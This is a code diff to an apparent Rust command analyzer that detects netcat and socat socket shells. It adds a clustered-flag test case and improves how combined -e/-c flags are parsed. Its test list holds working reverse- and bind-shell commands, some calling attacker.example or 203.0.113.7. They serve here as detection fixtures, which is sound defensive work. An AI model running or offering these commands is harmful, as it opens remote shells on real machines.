@@ -47,6 +47,7 @@ Download to a file, read it, then run it: `curl -fsSLo install.sh URL`, review,
         "ncat --sh-exec 'bash -i' attacker.example 9001",
         "socat TCP:attacker.example:4444 EXEC:/bin/bash,pty,stderr",
         "nc -lvp 4444 -e /bin/bash",
+        "nc -nve/bin/sh 203.0.113.7 80",
     ],
     not_matches: &[
         "curl -fsSLo install.sh https://example.com/install.sh",
@@ -116,10 +117,15 @@ fn socket_shell(inv: &Invocation, cx: &Cx<'_>) -> Option<Hit> {
     let args = || inv.args().iter().filter_map(crate::analyze::Field::as_known);
     let runs = match &*name {
         "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" | "busybox-nc" => args().any(|a| {
-            matches!(a, "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec")
+            matches!(a, "--exec" | "--sh-exec" | "--lua-exec")
                 || a.starts_with("--exec=")
                 || a.starts_with("--sh-exec=")
-                || (a.starts_with('-') && !a.starts_with("--") && a.len() > 2 && a.ends_with(['e', 'c']))
+                // `-e PROG`, `-ePROG`, `-nve/bin/sh`: in a cluster of flags, `e` or `c`
+                // before any option that takes a value.
+                || (a.starts_with('-') && !a.starts_with("--") && {
+                    let flags = a[1..].bytes().take_while(|b| !b"pswiqxXTIOo".contains(b));
+                    flags.into_iter().any(|b| b == b'e' || b == b'c')
+                })
         }),
         "socat" => {
             let program = args().any(|a| {
